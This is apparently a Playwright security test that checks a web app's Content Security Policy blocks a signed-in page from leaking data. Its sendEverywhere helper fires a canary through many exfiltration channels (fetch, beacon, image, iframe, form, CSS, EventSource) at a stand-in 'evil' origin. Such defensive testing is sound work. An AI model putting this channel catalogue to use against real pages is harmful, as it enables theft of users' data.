import { signIn } from '../support/app.ts';
import { expect, test } from '../support/attack-test.ts';
import { ACME } from '../support/organizations.ts';

/** Runs in a page: every way to send something to another origin without leaving the page. */
async function sendEverywhere(origin: string): Promise<void> {
  const url = (by: string): string => `${origin}/by-${by}?stolen=canary`;
  await fetch(url('fetch'), { mode: 'no-cors' }).catch(() => {});
  await fetch(url('post'), { method: 'POST', body: 'canary', mode: 'no-cors' }).catch(() => {});
  navigator.sendBeacon(url('beacon'), 'canary');
  new Image().src = url('image');
  const add = (tag: string, attributes: Readonly<Record<string, string>>): HTMLElement => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) {
      try {
        element.setAttribute(name, value);
      } catch {
        // Trusted Types keep it from being written at all.
      }
    }
    document.body.append(element);
    return element;
  };
  add('iframe', { src: url('iframe') });
  add('object', { data: url('object') });
  add('link', { rel: 'stylesheet', href: url('stylesheet') });
  add('video', { src: url('video') });
  add('div', { style: `background: url("${url('style')}")` });
  const form = add('form', { action: url('form'), target: 'sink', method: 'post' });
  add('iframe', { name: 'sink' });
  if (form instanceof HTMLFormElement) form.submit();
  new EventSource(url('event-source')).onerror = (event) => {
    if (event.target instanceof EventSource) event.target.close();
  };
}

/** What the policy tells the whole address of. Of frames it tells less; the rest Trusted Types keep from being written. */
const BLOCKED = ['fetch', 'post', 'beacon', 'image', 'stylesheet', 'video', 'form', 'event-source'];
const WAYS = ['fetch', 'post', 'beacon', 'image', 'iframe', 'object', 'stylesheet', 'video', 'form'];

test("R44: the page's policy lets nothing out to another origin, nor to AuthKit's token endpoint", async ({
  page,
  evil,
  server,
  authKit,
}) => {
  await signIn(page, ACME);
  const before = await authKit.log();
  await page.evaluate(() => {
    const blocked: string[] = [];
    Object.assign(globalThis, { blocked });
    document.addEventListener('securitypolicyviolation', ({ blockedURI }) => blocked.push(blockedURI));
  });

  await page.evaluate(sendEverywhere, evil.origin);
  const reached = await page.evaluate(
    (url) =>
      fetch(url, { method: 'POST', body: '{}', mode: 'no-cors' }).then(
        () => 'sent',
        () => 'blocked',
      ),
    `${server.authKitOrigin}/user_management/authenticate`,
  );
  const blocked = (): Promise<string> =>
    page.evaluate(() => (globalThis as unknown as { blocked: string[] }).blocked.join());
  for (const way of BLOCKED) await expect.poll(blocked).toContain(`${evil.origin}/by-${way}`);

  expect(reached).toBe('blocked');
  expect(await authKit.log()).toEqual(before);
  // Whatever was on its way would be there before the answer to this one, which nothing keeps back.
  await page.context().request.get(`${evil.origin}/last`);
  expect(evil.paths).toEqual(['/last']);
});

test.describe('the same attempts without the policy', () => {
  test.use({ bypassCSP: true });

  test('arrive', async ({ page, evil }) => {
    await signIn(page, ACME);
    await page.evaluate(sendEverywhere, evil.origin);
    for (const way of WAYS)
      await expect.poll(() => evil.paths.join(), `by ${way}`).toContain(`/by-${way}?stolen=canary`);
  });
});
